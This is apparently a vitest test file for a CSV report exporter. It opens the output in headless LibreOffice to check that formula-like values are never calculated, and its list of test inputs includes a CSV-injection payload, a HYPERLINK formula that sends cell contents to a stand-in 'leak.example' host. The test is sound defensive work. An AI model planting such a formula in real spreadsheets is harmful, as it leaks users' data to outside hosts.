import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { renderCsv } from '../../../src-main/reports/formats/csv'
import { buildReport } from '../../../src-main/reports/model'
import { csvRecords } from './csv-reader'
import { hostileRows } from './hostile'
import { storyContext, storyRows } from './story'

/** What a spreadsheet could take for something else than words. */
const tempting = [
  '=1+1',
  '=HYPERLINK("https://leak.example/?"&A2,"press")',
  '+49 30 1234',
  '-12 degrees',
  '@SUM(A1:A9)',
  '\t=2+2',
  '\r=3+3',
  '\n=4+4',
  '  =5+5',
  '＝6+6',
  'one, two; three',
  'she said "no", he said ""',
  'first line\nsecond line\r\nthird line',
  "'quoted already",
  '"',
  'ends in a quote"',
]

interface Cell {
  text: string
  formula: string | null
}
const isThere = spawnSync('soffice', ['--version']).status === 0
let folder = ''
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'stet-csv-'))
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** The table as LibreOffice opens it, with formulas calculated wherever it finds one: comma, quote, UTF-8, from the first line on. */
function opened(name: string, csv: string): Cell[][] {
  writeFileSync(join(folder, `${name}.csv`), csv)
  // A profile of its own: an office that is open already would take the job and answer nothing.
  const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile'))}`
  const filter =
    '--infilter=Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,false,-1,true,false,true'
  const args = ['--headless', profile, filter, '--convert-to', 'fods', '--outdir', folder, join(folder, `${name}.csv`)]
  const { status, stderr } = spawnSync('soffice', args, { encoding: 'utf8' })
  if (status !== 0) throw new Error(`soffice: ${stderr}`)
  const book = readFileSync(join(folder, `${name}.fods`), 'utf8')
  const rows = [...book.matchAll(/<table:table-row[^>]*?(?<!\/)>(.*?)<\/table:table-row>/gsu)]
  return rows.map(([, row = '']) => cellsOf(row)).filter((cells) => cells.some(({ text }) => text !== ''))
}

function cellsOf(row: string): Cell[] {
  const cells = row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gsu)
  return [...cells].flatMap(([, attributes = '', inside = '']) => {
    const repeated = Number(/number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1)
    const cell = { text: textOf(inside), formula: /table:formula="([^"]*)"/.exec(attributes)?.[1] ?? null }
    return Array.from({ length: Math.min(repeated, 100) }, () => cell)
  })
}

const textOf = (inside: string) =>
  [...inside.matchAll(/<text:p[^>]*?(?:\/>|>(.*?)<\/text:p>)/gsu)]
    .map(([, line = '']) =>
      line
        .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, n: string | undefined) => ' '.repeat(Number(n ?? 1)))
        .replace(/<text:tab\/>/g, '\t')
        .replace(/<[^>]*>/g, '')
        .replace(/&(lt|gt|quot|apos|amp);/g, (_, name: string) => entities[name]!),
    )
    .join('\n')
const entities: Record<string, string> = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' }

/** What a spreadsheet rightly takes for a number, a day or a time, and shows in its own way. */
const isValue = (text: string) => /^[\d.,:TZ%+ -]*$/.test(text) || /^(TRUE|FALSE)$/i.test(text)

describe.skipIf(!isThere)('LibreOffice', () => {
  const told = storyRows()
  tempting.forEach((text, i) => {
    const statement = told.statements[i % told.statements.length]!
    statement.statement = i < told.statements.length ? text : `${statement.statement} ${text}`
  })
  const tables = {
    told: renderCsv(buildReport(told, storyContext)),
    hostile: renderCsv(buildReport(hostileRows(storyRows()), storyContext)),
  }

  it('calculates what is a formula: the test would see one', () => {
    expect(opened('formula', 'a,b\r\n=1+1,x\r\n')[1]).toEqual([
      { text: '2', formula: expect.stringContaining('1+1') },
      { text: 'x', formula: null },
    ])
  }, 60_000)
  it.each(
    Object.entries(tables).flatMap(([name, { claims, passages }]) => [
      [`${name}-claims`, claims] as const,
      [`${name}-passages`, passages] as const,
    ]),
  )(
    'opens %s with every word in its cell, and calculates nothing',
    (name, csv) => {
      const expected = csvRecords(csv)
      const found = opened(name, csv)
      expect(found.flat().filter(({ formula }) => formula !== null)).toEqual([])
      expect(found).toHaveLength(expected.length)
      for (const [i, record] of expected.entries()) {
        const cells = record.map((text, at) => (isValue(text) ? text : (found[i]![at]?.text ?? '')))
        expect(cells).toEqual(record)
      }
    },
    60_000,
  )
})
